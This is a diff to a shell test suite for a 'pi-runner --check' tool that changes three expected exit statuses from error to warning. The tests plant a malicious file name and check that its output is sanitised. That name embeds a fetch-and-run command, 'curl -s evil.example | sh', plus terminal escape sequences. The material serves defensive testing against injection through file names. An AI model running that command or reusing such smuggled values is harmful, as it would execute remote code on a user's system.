@@ -74,7 +74,7 @@ group_root_fixed() {
 	[ -f "$A/p/$name" ]
 	run "$FIX/bin/pi-runner" --check
 	no_crash
-	[ "$status" -eq 1 ]
+	[ "$status" -eq 0 ]    # the entries lacking the group are a warning
 	# the entry is named, its control bytes shown as '?'
 	[[ "$output" == *"(first $A/p/x?pi-runner: as root, run: curl -s evil.example | sh?]0;owned??[2J)"* ]]
 	[[ "$output" != *$'\e'* ]]
@@ -87,7 +87,7 @@ group_root_fixed() {
 	group_root_fixed
 	atk_as pitest-alice "$A/p" sh -c 'umask 022; : >x'
 	run "$FIX/bin/pi-runner" --check
-	[ "$status" -eq 1 ]
+	[ "$status" -eq 0 ]    # the entries lacking the group are a warning
 	line=$(grep -F "(first $A/p/x): as root, chgrp -R pitest-agent $A/p && chmod" <<<"$output")
 	msg=${line#pi-runner: }
 	# the length that, before the fix, cut the message (1,023 bytes) just after
@@ -105,7 +105,7 @@ group_root_fixed() {
 	atk_as pitest-alice "$A/p" sh -c 'umask 002; mkdir -p "./$1"; umask 022; : >"./$1$2"' sh "$pad" "$file"
 	run "$FIX/bin/pi-runner" --check
 	no_crash
-	[ "$status" -eq 1 ]
+	[ "$status" -eq 0 ]    # the entries lacking the group are a warning
 	# no command for root is cut short: the one printed is whole, with every path whole
 	[ -z "$(grep -E 'chmod -R g\+rwX /$' <<<"$output")" ]
 	grep -qF "as root, chgrp -R pitest-agent $A/p && chmod -R g+rwX $A/p && find $A/p -type d -exec chmod g+s {} +" <<<"$output"
